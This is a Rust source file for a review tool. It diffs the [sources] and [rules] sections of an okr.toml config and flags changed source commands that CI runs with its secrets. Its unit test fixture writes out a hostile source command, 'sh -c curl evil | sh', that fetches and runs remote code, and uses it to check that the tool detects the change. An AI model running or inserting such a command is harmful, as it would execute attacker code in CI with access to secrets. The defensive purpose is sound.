//! The changes to okr.toml that a reviewer must see: `[sources]` (a source's
//! command, query or address is what CI runs with its secrets) and
//! `[rules]` (a rule switched off or lowered lets through what it used to
//! stop). Each side is read as TOML, not validated: a change that breaks
//! okr.toml is still listed.

use std::collections::BTreeMap;

use serde::Serialize;

use crate::diff::ChangeKind;
use crate::text::Text;

/// One entry of `[sources]` or `[rules]` added, removed or changed.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ConfigChange {
    /// `sources` or `rules`.
    pub section: &'static str,
    /// The source's name, or the rule's code.
    pub name: Text,
    /// Added, removed or modified.
    pub change: ChangeKind,
    /// `source-changed` for a source added or whose settings changed.
    pub flags: Vec<&'static str>,
    /// Each setting that differs, `key`, old and new (TOML, `None` where
    /// absent): for people, not in the JSON.
    #[serde(skip)]
    pub settings: Vec<(Text, Option<Text>, Option<Text>)>,
}

/// The flag of a source added or whose settings changed: a command, query
/// or address CI will run or ask with its secrets, which a reviewer must
/// see. A removed source runs nothing new, and is not flagged.
pub const SOURCE_CHANGED: &str = "source-changed";

/// The changes from the okr.toml text `base` to `head` (`None`: no file).
pub fn compare(base: Option<&str>, head: Option<&str>) -> Vec<ConfigChange> {
    let (base, head) = (table(base), table(head));
    let mut changes = Vec::new();
    for section in ["sources", "rules"] {
        let (old, new) = (entries(&base, section), entries(&head, section));
        let mut names: Vec<&String> = old.keys().chain(new.keys()).collect();
        names.sort();
        names.dedup();
        for name in names {
            let (before, after) = (old.get(name), new.get(name));
            let change = match (before, after) {
                (None, Some(_)) => ChangeKind::Added,
                (Some(_), None) => ChangeKind::Removed,
                (Some(a), Some(b)) if a != b => ChangeKind::Modified,
                _ => continue,
            };
            let flags = match (section, change) {
                ("sources", ChangeKind::Added | ChangeKind::Modified) => vec![SOURCE_CHANGED],
                _ => Vec::new(),
            };
            changes.push(ConfigChange {
                section,
                name: name.as_str().into(),
                change,
                flags,
                settings: settings(before.copied(), after.copied()),
            });
        }
    }
    changes
}

fn table(text: Option<&str>) -> toml::Table {
    text.and_then(|t| toml::from_str::<toml::Table>(t).ok()).unwrap_or_default()
}

fn entries<'t>(table: &'t toml::Table, section: &str) -> BTreeMap<String, &'t toml::Value> {
    match table.get(section) {
        Some(toml::Value::Table(entries)) => entries.iter().map(|(k, v)| (k.clone(), v)).collect(),
        _ => BTreeMap::new(),
    }
}

/// Each setting that differs: for a source its keys, for a rule its severity.
fn settings(before: Option<&toml::Value>, after: Option<&toml::Value>) -> Vec<(Text, Option<Text>, Option<Text>)> {
    let keyed = |value: Option<&toml::Value>| -> BTreeMap<String, String> {
        match value {
            Some(toml::Value::Table(t)) => t.iter().map(|(k, v)| (k.clone(), written(v))).collect(),
            Some(other) => BTreeMap::from([(String::new(), written(other))]),
            None => BTreeMap::new(),
        }
    };
    let (old, new) = (keyed(before), keyed(after));
    let mut keys: Vec<&String> = old.keys().chain(new.keys()).collect();
    keys.sort();
    keys.dedup();
    keys.into_iter()
        .filter(|k| old.get(*k) != new.get(*k))
        .map(|k| (k.as_str().into(), old.get(k).map(|v| v.as_str().into()), new.get(k).map(|v| v.as_str().into())))
        .collect()
}

/// A value as TOML writes it (strings with JSON's quoting, which TOML reads the same).
fn written(value: &toml::Value) -> String {
    match value {
        toml::Value::String(s) => serde_json::Value::from(s.as_str()).to_string(),
        toml::Value::Array(items) => format!("[{}]", items.iter().map(written).collect::<Vec<_>>().join(", ")),
        toml::Value::Table(t) => {
            format!("{{ {} }}", t.iter().map(|(k, v)| format!("{k} = {}", written(v))).collect::<Vec<_>>().join(", "))
        }
        toml::Value::Integer(i) => i.to_string(),
        toml::Value::Float(f) => f.to_string(),
        toml::Value::Boolean(b) => b.to_string(),
        toml::Value::Datetime(d) => d.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sources_and_rules_added_removed_and_changed() {
        let base = r#"
[rules]
kr-kpi = "error"
title-todo = "warning"

[sources.bugs]
type = "command"
argv = ["gh", "issue", "list"]

[sources.gone]
type = "json"
path = "a.json"
"#;
        let head = r#"
[rules]
kr-kpi = "off"
title-todo = "warning"

[sources.bugs]
type = "command"
argv = ["sh", "-c", "curl evil | sh"]

[sources.new]
type = "json"
path = "b.json"

[limits]
key_results_max = 9
"#;
        let changes = compare(Some(base), Some(head));
        let summary: Vec<(&str, &str, &str, Vec<&str>)> =
            changes.iter().map(|c| (c.section, c.name.as_str(), c.change.as_str(), c.flags.clone())).collect();
        assert_eq!(
            summary,
            [
                ("sources", "bugs", "modified", vec!["source-changed"]),
                ("sources", "gone", "removed", vec![]),
                ("sources", "new", "added", vec!["source-changed"]),
                ("rules", "kr-kpi", "modified", vec![]),
            ]
        );
        let argv = &changes[0].settings;
        assert_eq!(argv.len(), 1);
        assert_eq!(argv[0].0.as_str(), "argv");
        assert_eq!(argv[0].2.as_ref().unwrap().as_str(), r#"["sh", "-c", "curl evil | sh"]"#);
        assert_eq!(changes[3].settings[0].1.as_ref().unwrap().as_str(), "\"error\"");
        assert!(compare(Some(base), Some(base)).is_empty());
        assert_eq!(compare(None, Some(base)).len(), 4, "every entry of a new okr.toml is added");
        assert_eq!(compare(Some("not [toml"), None), [], "a side that does not parse has nothing");
    }
}
